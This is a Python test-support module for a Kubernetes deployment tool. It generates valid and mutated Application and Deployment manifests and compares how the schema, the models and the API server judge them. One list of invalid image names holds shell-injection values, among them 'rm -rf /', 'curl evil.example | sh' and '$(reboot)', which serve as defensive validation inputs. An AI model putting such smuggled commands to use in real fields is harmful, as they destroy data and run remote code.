"""The models and admission side by side: generated documents, both verdicts, and their
comparison, as plain functions.

tests/integration/test_admission_differential.py sends the documents to a real API server;
tests/unit/test_admission.py checks what Python can check without one (the CRD schema's
types, bounds, enums and patterns, evaluated here, against the models). Both use the same
documents and the same comparison.
"""

from __future__ import annotations

import copy
import json
import operator
import re
from collections.abc import Iterable
from dataclasses import dataclass
from functools import cache
from typing import Any

from hypothesis import strategies as st
from pydantic import ValidationError

from lockgate.api import Application, Deployment, InvalidManifest, parse_resource
from lockgate.api.crdgen import all_crds
from lockgate.api.resources import field_path
from lockgate.names import API_VERSION, GROUP, VERSION

Doc = dict[str, Any]
KINDS = ("Application", "Deployment")

# --- verdicts and their comparison -----------------------------------------------------------

# A field as both sides write it: spec.strategy.canary.steps[2].setWeight.
FIELD_RE = re.compile(r"\bspec(?:\.[A-Za-z_][A-Za-z0-9_]*|\[[0-9]*\])*")


@dataclass(frozen=True)
class Verdict:
    """Accepted, or refused naming these fields (as found in the messages)."""

    accepted: bool
    fields: frozenset[str] = frozenset()
    detail: str = ""


def fields_named(texts: Iterable[str]) -> frozenset[str]:
    return frozenset(m.group() for text in texts for m in FIELD_RE.finditer(text))


def model_verdict(doc: Doc) -> Verdict:
    """What `lockgate plan` (and the controller) says of the document."""
    try:
        parse_resource(copy.deepcopy(doc), "document")
    except InvalidManifest as err:
        return Verdict(False, fields_named(err.problems), "; ".join(err.problems))
    return Verdict(True)


def server_verdict(status: str | None) -> Verdict:
    """The API server's verdict from the body of its answer: None when it created the object
    (or would have: dry run), else the Status it answered with (JSON text)."""
    if status is None:
        return Verdict(True)
    try:
        body = json.loads(status)
    except ValueError:
        return Verdict(False, fields_named([status]), status)
    texts = [str(body.get("message", ""))]
    for cause in (body.get("details") or {}).get("causes") or []:
        texts += [str(cause.get("field", "")), str(cause.get("message", ""))]
    return Verdict(False, fields_named(texts), " | ".join(t for t in texts if t))


def _parts(field: str) -> tuple[str, ...]:
    """spec.steps[2].pause -> ('spec', 'steps', 'pause'): which item is not compared (the
    admission policy names the list, the model the item)."""
    return tuple(re.sub(r"\[[0-9]*\]", "", field).split("."))


def same_field(a: Iterable[str], b: Iterable[str]) -> bool:
    """Both name the same field: one names it or a field inside it. A bare `spec` (a rule on
    the whole spec) counts only when one side names nothing more precise."""
    pa = {_parts(f) for f in a}
    pb = {_parts(f) for f in b}
    if len(pa) > 1:
        pa.discard(("spec",))
    if len(pb) > 1:
        pb.discard(("spec",))
    return any(x[: len(y)] == y or y[: len(x)] == x for x in pa for y in pb)


def disagreement(model: Verdict, server: Verdict) -> str | None:
    """None when both accept, or both refuse naming the same field; else what differs."""
    if model.accepted and server.accepted:
        return None
    if model.accepted != server.accepted:
        who = "the models accept it, the API server refuses it"
        if model.accepted is False:
            who = "the models refuse it, the API server accepts it"
        return f"{who}\n  models: {model.detail or 'ok'}\n  server: {server.detail or 'ok'}"
    if same_field(model.fields, server.fields):
        return None
    return (
        "both refuse it, naming different fields\n"
        f"  models: {sorted(model.fields)} {model.detail}\n"
        f"  server: {sorted(server.fields)} {server.detail}"
    )


# --- the API server's answer ---------------------------------------------------------------

PLURALS = {"Application": "applications", "Deployment": "deployments"}
# Answers that are a verdict on the document: 400 (strict decoding: an unknown field), 403 and
# 422 (the schema, a CEL rule or the admission policy). Anything else fails the test.
REFUSALS = (400, 403, 422)


def dry_run_create(objects: Any, namespace: str, doc: Doc) -> str | None:
    """None when the API server would create the document, else the body of its refusal.

    `objects` is a kubernetes.client.CustomObjectsApi. A server-side dry run stores nothing.
    Strict field validation, as kubectl asks for by default: an unknown field is refused
    rather than dropped with a warning."""
    from kubernetes.client.rest import ApiException

    plural = PLURALS.get(str(doc.get("kind")), "deployments")
    try:
        objects.create_namespaced_custom_object(
            GROUP, VERSION, namespace, plural, doc, dry_run="All", field_validation="Strict"
        )
    except ApiException as err:
        if err.status in REFUSALS:
            return str(err.body)
        raise
    return None


# --- the CRD schema, evaluated in Python -----------------------------------------------------


@cache
def spec_schema(kind: str) -> dict[str, Any]:
    crd = all_crds()[f"{kind.lower()}s.lockgate.dev.yaml"]
    schema: dict[str, Any] = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    return dict(schema["properties"]["spec"])


def re2_search(pattern: str, value: str) -> bool:
    """An OpenAPI `pattern` as the API server applies it (Go's RE2, searching): RE2's `$`
    matches only at the very end, Python's also before a final newline."""
    return re.search(pattern.replace("$", r"\Z"), value) is not None


def _type_problem(value: Any, schema: dict[str, Any]) -> str | None:
    if schema.get("x-kubernetes-int-or-string"):
        # The schema takes a whole number as written (3.0 too), but each of lockgate's
        # int-or-string fields has a CEL rule, which refuses anything but an int or a string.
        ok = isinstance(value, str) or (isinstance(value, int) and not isinstance(value, bool))
        return None if ok else "must be an integer or a string"
    kind = schema.get("type")
    if kind is None:
        return None
    ok = {
        "integer": lambda v: (
            (isinstance(v, int) and not isinstance(v, bool))
            or (isinstance(v, float) and v.is_integer())
        ),
        "number": lambda v: isinstance(v, int | float) and not isinstance(v, bool),
        "string": lambda v: isinstance(v, str),
        "boolean": lambda v: isinstance(v, bool),
        "object": lambda v: isinstance(v, dict),
        "array": lambda v: isinstance(v, list),
    }[kind](value)
    return None if ok else f"must be of type {kind}"


def schema_problems(doc: Doc) -> list[str]:
    """What the CRD schema of the document's kind refuses in its spec ("field: reason"):
    types, enums, bounds, lengths, patterns, required and unknown fields (refused as kubectl
    and the differential test ask: strict field validation), nulls pruned as the API server
    prunes them. Not the CEL rules nor the admission policy."""
    if "spec" not in doc or doc["spec"] is None:
        return ["spec: Required value"]
    return _check(doc["spec"], spec_schema(doc["kind"]), "spec")


def _check(value: Any, schema: dict[str, Any], path: str) -> list[str]:
    problem = _type_problem(value, schema)
    if problem:
        return [f"{path}: {problem}"]
    out: list[str] = []
    if "enum" in schema and value not in schema["enum"]:
        out.append(f"{path}: not one of {schema['enum']}")
    if isinstance(value, int | float) and not isinstance(value, bool):
        if "minimum" in schema and value < schema["minimum"]:
            out.append(f"{path}: below {schema['minimum']}")
        if "maximum" in schema and value > schema["maximum"]:
            out.append(f"{path}: above {schema['maximum']}")
    if isinstance(value, str):
        if len(value) < schema.get("minLength", 0):
            out.append(f"{path}: shorter than {schema['minLength']}")
        if "maxLength" in schema and len(value) > schema["maxLength"]:
            out.append(f"{path}: longer than {schema['maxLength']}")
        if "pattern" in schema and not re2_search(schema["pattern"], value):
            out.append(f"{path}: does not match {schema['pattern']}")
    if isinstance(value, list):
        if len(value) < schema.get("minItems", 0):
            out.append(f"{path}: fewer than {schema['minItems']} items")
        if "maxItems" in schema and len(value) > schema["maxItems"]:
            out.append(f"{path}: more than {schema['maxItems']} items")
        items = schema.get("items", {})
        for i, item in enumerate(value):
            if item is None and items.get("type"):
                out.append(f"{path}[{i}]: must be of type {items['type']}")
            elif item is not None:
                out += _check(item, items, f"{path}[{i}]")
    if isinstance(value, dict):
        props = schema.get("properties", {})
        for key in schema.get("required", []):
            if value.get(key) is None:
                out.append(f"{path}.{key}: Required value")
        for key, sub in value.items():
            if key in props:
                if sub is not None:  # pruned: a null is an absent field
                    out += _check(sub, props[key], f"{path}.{key}")
            elif isinstance(schema.get("additionalProperties"), dict):
                out += _check(sub, schema["additionalProperties"], f"{path}.{key}")
            elif not schema.get("x-kubernetes-preserve-unknown-fields"):
                out.append(f"{path}.{key}: unknown field")
    return out


# --- the models' errors, sorted by who checks them at admission ------------------------------

# Errors of the models' own validators: CEL rules (in the CRDs) or the admission policy check
# them, not the OpenAPI schema.
CEL_ERROR_TYPES = frozenset({"value_error", "assertion_error"})
_BRANCHES = {"int", "str", "CanaryStep"}


def model_errors(doc: Doc) -> tuple[frozenset[str], frozenset[str]]:
    """The fields the models refuse, as (the schema's part, the CEL rules' and policy's part).

    A field refused inside a canary step is the policy's (steps are not in the schema); a
    field of a union (int or string) refused by any branch's validator is a CEL rule's."""
    model = Application if doc.get("kind") == "Application" else Deployment
    try:
        model.model_validate(copy.deepcopy(doc), by_name=False)
    except ValidationError as err:
        errors = err.errors()
    else:
        return frozenset(), frozenset()
    by_field: dict[str, set[str]] = {}
    for e in errors:
        loc = tuple(e["loc"])
        path = field_path(loc)
        if str(e["msg"]).removeprefix("Value error, ").startswith(("spec.", "spec:")):
            # Our own messages name the field themselves (an image in a template).
            path = FIELD_RE.findall(str(e["msg"]))[0]
        by_field.setdefault(path, set()).add(e["type"])
    schema: set[str] = set()
    cel: set[str] = set()
    for path, types in by_field.items():
        in_step = re.search(r"\.canary\.steps\[[0-9]+\]", path) is not None
        (cel if in_step or types & CEL_ERROR_TYPES else schema).add(path)
    return frozenset(schema), frozenset(cel)


# --- documents -------------------------------------------------------------------------------

NAMES = st.from_regex(r"[a-z][a-z0-9]{0,6}", fullmatch=True)
_ALNUM = st.text("ab09", min_size=1, max_size=4)
_COMPONENT = st.builds(
    lambda first, rest: first + "".join(sep + part for sep, part in rest),
    _ALNUM,
    st.lists(st.tuples(st.sampled_from([".", "_", "__", "-", "--"]), _ALNUM), max_size=2),
)


@st.composite
def image_refs(draw: st.DrawFn) -> str:
    """Valid references, built from the grammar's parts."""
    host = draw(
        st.one_of(
            st.none(),
            st.sampled_from(["localhost", "registry.example.com", "Reg-1.io", "[::1]", "a"]),
        )
    )
    port = draw(st.one_of(st.none(), st.integers(1, 65535))) if host else None
    path = "/".join(draw(st.lists(_COMPONENT, min_size=1, max_size=3)))
    name = f"{host}{f':{port}' if port else ''}/{path}" if host else path
    tag = draw(
        st.one_of(
            st.none(),
            st.builds(
                operator.add,
                st.sampled_from("aZ09_"),
                st.text("aZ09_.-", max_size=20) | st.just("x" * 127),
            ),
        )
    )
    algorithm = draw(st.sampled_from(["sha256", "sha512", "sha256+b64u", "multihash.v1"]))
    hex_digits = draw(st.sampled_from([32, 64, 128]))
    digest = draw(st.one_of(st.none(), st.just(f"{algorithm}:{'0aF9' * (hex_digits // 4)}")))
    return name + (f":{tag}" if tag else "") + (f"@{digest}" if digest else "")


@st.composite
def near_images(draw: st.DrawFn) -> str:
    """A valid reference with one character inserted, removed or replaced: mostly invalid,
    at the grammar's edges."""
    image = draw(image_refs())
    i = draw(st.integers(0, len(image)))
    char = draw(st.sampled_from([*" :@/._-+A$;`'\"\n\t|&", "", "\u00e9"]))
    return image[:i] + char + image[i + draw(st.integers(0, 1)) :]


BAD_IMAGES = st.one_of(
    st.sampled_from(
        [
            "shop 2; rm -rf /",
            "shop:2 && curl evil.example | sh",
            "$(reboot)",
            "shop`id`",
            "Shop:2",
            "shop:",
            "shop:" + "x" * 129,
            "shop@sha256:abc",
            "shop@sha256",
            ":2",
            "/shop",
            "shop/",
            "shop//cart",
            "shop..cart",
            "shop:2\n",
            "shop:2@sha256:" + "a" * 31,
            "shop:-2",
            "registry:5000x/shop",
            "shop:2@",
            "shop\t2",
            "\uff53hop",  # a fullwidth s
            "",
            " shop:2",
        ]
    ),
    st.text(min_size=1, max_size=30),
)
IMAGES = image_refs()


def _meta(kind: str, name: str) -> Doc:
    return {"apiVersion": API_VERSION, "kind": kind, "metadata": {"name": name}}


def _maybe(draw: st.DrawFn, out: Doc, key: str, strategy: st.SearchStrategy[Any]) -> None:
    if draw(st.booleans()):
        out[key] = draw(strategy)


STEPS = st.lists(
    st.one_of(
        st.integers(0, 100),
        st.builds(lambda w: {"setWeight": w}, st.integers(0, 100)),
        st.sampled_from([{"pause": {}}, {"pause": {"seconds": 0}}, {"pause": {"seconds": 30}}]),
    ),
    min_size=1,
    max_size=6,
).map(lambda steps: [*steps, 100])
"""Mostly invalid as drawn (weights out of order), which is what steps should be tested
with; `_sorted_steps` makes them valid."""


def _sorted_steps(steps: list[Any]) -> list[Any]:
    def weight(step: Any) -> int | None:
        return step if isinstance(step, int) else step.get("setWeight")

    it = iter(sorted(w for w in map(weight, steps) if w is not None))
    out: list[Any] = []
    for step in steps:
        if weight(step) is None:
            out.append(step)
        else:
            w = next(it)
            out.append(w if isinstance(step, int) else {"setWeight": w})
    return out


PERCENTS = st.integers(1, 100).map(lambda n: f"{n}%")


def _bounds(low: float, high: float) -> dict[str, float]:
    return {"min": min(low, high), "max": max(low, high)}


QUERY_BOUNDS = st.one_of(
    st.builds(lambda v: {"max": v}, st.floats(-1e6, 1e6)),
    st.builds(lambda v: {"min": v}, st.integers(-100, 100)),
    st.builds(_bounds, st.floats(-1e3, 1e3), st.floats(-1e3, 1e3)),
)
PROMQL = st.sampled_from(
    [
        "up",
        'sum(rate(traefik_service_requests_total{service=~"$canary",code=~"5.."}[$window]))',
        "histogram_quantile(0.99, sum by (le) (rate(x_bucket[$window])))",
    ]
)
QUERIES = st.lists(
    st.builds(
        lambda name, promql, bounds: {"name": name, "promql": promql, **bounds},
        NAMES,
        PROMQL,
        QUERY_BOUNDS,
    ),
    max_size=3,
    unique_by=lambda q: q["name"],
)
"""Valid PromQL gates: unique names, a bound, min below max."""
PROM_URLS = st.sampled_from(
    ["http://prometheus:9090", "https://prom.example.com/prometheus", "http://127.0.0.1:19090/"]
)


@st.composite
def deployments(draw: st.DrawFn) -> Doc:
    """Valid Deployments."""
    spec: Doc = {"application": draw(NAMES), "image": draw(IMAGES)}
    kind = draw(st.sampled_from(["Recreate", "Rolling", "BlueGreen", "Canary", None]))
    if kind is not None:
        strategy: Doc = {"type": kind}
        if kind == "Rolling" and draw(st.booleans()):
            rolling: Doc = {}
            _maybe(draw, rolling, "batchSize", st.one_of(st.integers(1, 10), PERCENTS))
            _maybe(draw, rolling, "batchWaitSeconds", st.integers(0, 86400))
            _maybe(draw, rolling, "minHealthy", st.one_of(st.integers(0, 10), PERCENTS))
            _maybe(draw, rolling, "failureThreshold", st.integers(1, 100))
            strategy["rolling"] = rolling
        if kind == "BlueGreen" and draw(st.booleans()):
            bg: Doc = {}
            _maybe(draw, bg, "autoPromote", st.booleans())
            _maybe(draw, bg, "previewSeconds", st.integers(0, 86400))
            _maybe(draw, bg, "scaleDownDelaySeconds", st.integers(0, 86400))
            strategy["blueGreen"] = bg
        if kind == "Canary":
            canary: Doc = {"steps": _sorted_steps(draw(STEPS))}
            _maybe(draw, canary, "stepSeconds", st.integers(0, 86400))
            _maybe(draw, canary, "canaryHosts", st.one_of(st.integers(1, 5), PERCENTS))
            strategy["canary"] = canary
        spec["strategy"] = strategy
    if draw(st.booleans()):
        analysis: Doc = {}
        _maybe(draw, analysis, "intervalSeconds", st.integers(1, 3600))
        _maybe(draw, analysis, "minRequests", st.integers(0, 10_000))
        _maybe(draw, analysis, "maxErrorRate", st.floats(0, 1))
        _maybe(draw, analysis, "maxErrorRateIncrease", st.floats(0, 1))
        _maybe(draw, analysis, "maxLatencyP95Increase", st.integers(0, 9999).map(lambda n: f"{n}%"))
        _maybe(draw, analysis, "maxCpuIncrease", st.integers(0, 9999).map(lambda n: f"{n}%"))
        _maybe(draw, analysis, "maxMemoryIncrease", st.integers(0, 9999).map(lambda n: f"{n}%"))
        _maybe(draw, analysis, "maxConsecutiveFailures", st.integers(1, 100))
        _maybe(draw, analysis, "queries", QUERIES)
        spec["analysis"] = analysis
    _maybe(draw, spec, "rollback", st.builds(lambda a: {"automatic": a}, st.booleans()))
    _maybe(draw, spec, "concurrencyPolicy", st.sampled_from(["Queue", "Replace"]))
    _maybe(draw, spec, "paused", st.booleans())
    _maybe(draw, spec, "progressDeadlineSeconds", st.integers(10, 86400))
    return {**_meta("Deployment", draw(NAMES)), "spec": spec}


@st.composite
def applications(draw: st.DrawFn) -> Doc:
    """Valid Applications."""
    spec: Doc = {}
    if draw(st.booleans()):
        kube: Doc = {}
        _maybe(draw, kube, "replicas", st.integers(0, 1000))
        _maybe(draw, kube, "drainSeconds", st.integers(0, 300))
        if draw(st.booleans()):
            containers = [
                {"name": draw(NAMES), **({"image": draw(IMAGES)} if draw(st.booleans()) else {})}
                for _ in range(draw(st.integers(1, 2)))
            ]
            kube["template"] = {
                "metadata": {"labels": {"app": "x"}},
                "spec": {"containers": containers},
            }
        spec["kubernetes"] = kube
        docker = False
    else:
        names = draw(st.lists(NAMES, min_size=1, max_size=3, unique=True))
        hosts = []
        for name in names:
            scheme = draw(st.sampled_from(["unix", "tcp", "ssh"]))
            host: Doc = {"name": name, "url": f"{scheme}://{name}", "address": "127.0.0.1"}
            if scheme == "ssh":
                host["sshKeySecretRef"] = {"name": "k", "key": "id"}
                host["knownHostsSecretRef"] = {"name": "k", "key": "known_hosts"}
            hosts.append(host)
        dock: Doc = {"hosts": hosts}
        _maybe(draw, dock, "instancesPerHost", st.integers(1, 64))
        _maybe(draw, dock, "drainSeconds", st.integers(0, 300))
        if draw(st.booleans()):
            container: Doc = {}
            _maybe(draw, container, "port", st.integers(1, 65535))
            _maybe(draw, container, "restartPolicy", st.sampled_from(["no", "always"]))
            _maybe(draw, container, "resources", st.just({"cpus": "0.5", "memory": "128Mi"}))
            _maybe(draw, container, "env", st.just([{"name": "A", "value": "1"}]))
            dock["container"] = container
        spec["docker"] = dock
        docker = True
    _maybe(draw, spec, "port", st.integers(1, 65535))
    if draw(st.booleans()):
        health: Doc = {"http": {"path": "/health"}}
        _maybe(draw, health, "intervalSeconds", st.integers(1, 3600))
        _maybe(draw, health, "unhealthyThreshold", st.integers(1, 100))
        spec["healthCheck"] = health
    if draw(st.booleans()):
        traefik: Doc = {"route": {"match": "Host(`shop.test`)"}}
        if docker and draw(st.booleans()):
            traefik["fileProvider"] = {"host": "local", "path": "/etc/traefik/dyn.yaml"}
        spec["traffic"] = {"traefik": traefik}
    _maybe(draw, spec, "metrics", st.builds(lambda url: {"prometheus": {"url": url}}, PROM_URLS))
    _maybe(draw, spec, "historyLimit", st.integers(1, 100))
    return {**_meta("Application", draw(NAMES)), "spec": spec}


def _paths(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every key and index inside the spec."""
    out: list[tuple[Any, ...]] = []
    if isinstance(node, dict):
        for key, value in node.items():
            out.append((*path, key))
            out += _paths(value, (*path, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            out.append((*path, i))
            out += _paths(value, (*path, i))
    return out


def _at(node: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        node = node[part]
    return node


def _schema_at(kind: str, path: tuple[Any, ...]) -> dict[str, Any]:
    node = spec_schema(kind)
    for part in path:
        if isinstance(part, int):
            node = node.get("items", {})
        else:
            node = node.get("properties", {}).get(part, {})
    return node


# Values that a lax reader would take for the type: the API server refuses all but the
# whole-number floats, which it takes for integers.
NEAR_TYPES: dict[str, list[Any]] = {
    "integer": ["3", 3.0, 2.5, True, "0"],
    "number": ["0.5", True, 1],
    "boolean": ["true", "false", 1, 0, "yes"],
    "string": [5, 0.5, True],
    "object": ["{}", []],
    "array": ["a", {}],
}


def _values_against(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values a field's schema refuses or sits at the edge of."""
    edges: list[Any] = list(NEAR_TYPES.get(schema.get("type", ""), []))
    if schema.get("x-kubernetes-int-or-string"):
        edges += [2.0, True, "2", "0%", "100%", "101%", "5 %", "5%\n"]
    for key, delta in (("minimum", -1), ("maximum", 1)):
        if key in schema:
            edges += [schema[key] + delta, schema[key], float(schema[key] + delta)]
    if "enum" in schema:
        edges += [str(schema["enum"][0]).lower(), "Other"]
    if "maxLength" in schema:
        edges.append("x" * (schema["maxLength"] + 1))
    if "pattern" in schema:
        edges += ["", "has space", "/x", "Upper", "x\n"]
    return st.sampled_from(edges) if edges else st.nothing()


def _near_value(value: Any) -> st.SearchStrategy[Any]:
    """The same value in another JSON type: in range, so only the type can refuse it."""
    if isinstance(value, bool):
        return st.sampled_from([str(value).lower(), int(value)])
    if isinstance(value, int):
        return st.sampled_from([str(value), float(value), value + 0.5])
    if isinstance(value, float):
        return st.sampled_from([str(value), value > 0])
    if isinstance(value, str) and value.isdigit():
        return st.just(int(value))
    return st.nothing()


WRONG_TYPES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**31), 2**31),
    st.floats(-1e6, 1e6, allow_nan=False),
    st.integers(-5, 200).map(float),
    st.text(max_size=8),
    st.sampled_from(["3", "true", "25%", "0%", "101%", "-1", "50%"]),
    st.just([]),
    st.just({}),
    st.just([1, "a"]),
)

BAD_STEPS = st.lists(
    st.one_of(
        st.integers(-5, 110),
        st.integers(0, 100).map(float),
        st.none(),
        st.booleans(),
        st.sampled_from(["10", "pause"]),
        st.fixed_dictionaries(
            {},
            optional={
                "setWeight": st.one_of(
                    st.integers(-5, 110), st.none(), st.just(50.0), st.just("5")
                ),
                "pause": st.one_of(
                    st.just({}),
                    st.none(),
                    st.just(5),
                    st.fixed_dictionaries(
                        {},
                        optional={
                            "seconds": st.one_of(
                                st.integers(-2, 604801), st.none(), st.just(5.0), st.just("5")
                            ),
                            "minutes": st.just(1),
                        },
                    ),
                ),
                "weight": st.just(10),
            },
        ),
    ),
    max_size=5,
)


MUTATIONS = (
    "value",
    "edge",
    "edge",
    "retype",
    "retype",
    "unknown",
    "delete",
    "image",
    "steps",
    "spec",
)


@st.composite
def mutated(draw: st.DrawFn, valid: st.SearchStrategy[Doc]) -> Doc:
    """A valid document with one thing made wrong (or merely different)."""
    doc = copy.deepcopy(draw(valid))
    spec = doc["spec"]
    how = draw(st.sampled_from(MUTATIONS))
    if how == "image":
        if doc["kind"] == "Deployment":
            spec["image"] = draw(BAD_IMAGES)
        else:
            spec.pop("docker", None)
            template = {"spec": {"containers": [{"name": "app", "image": draw(BAD_IMAGES)}]}}
            spec["kubernetes"] = {"template": template}
        return doc
    if how == "steps":
        doc["kind"] = "Deployment"
        doc["spec"] = {
            "application": "shop",
            "image": "shop:2",
            "strategy": {"type": "Canary", "canary": {"steps": draw(BAD_STEPS)}},
        }
        return doc
    if how == "spec":
        doc["spec"] = draw(WRONG_TYPES)
        return doc
    paths = _paths(spec)
    if how == "retype":  # only where a value has a JSON type of its own
        paths = [p for p in paths if isinstance(_at(spec, p), bool | int | float)]
    if not paths:
        return doc
    path = draw(st.sampled_from(paths))
    parent = spec
    for part in path[:-1]:
        parent = parent[part]
    last = path[-1]
    if how == "unknown":
        target = parent[last] if isinstance(parent[last], dict) else parent
        if not isinstance(target, dict):  # an item of a list of scalars
            target = spec
        target[draw(st.sampled_from(["foo", "batch_size", "Image", "setweight"]))] = 1
    elif how == "delete":
        if isinstance(parent, dict):
            del parent[last]
        else:
            parent.pop(last)
    elif how == "retype":
        parent[last] = draw(_near_value(parent[last]))
    elif how == "edge":
        parent[last] = draw(
            st.one_of(
                _near_value(parent[last]),
                _values_against(_schema_at(doc["kind"], path)),
                WRONG_TYPES,
            )
        )
    else:
        parent[last] = draw(WRONG_TYPES)
    return doc


def documents() -> st.SearchStrategy[Doc]:
    """Valid documents of both kinds and mutations of them; about two in three are invalid."""
    valid = st.one_of(applications(), deployments())
    return st.one_of(valid, mutated(valid), mutated(valid))
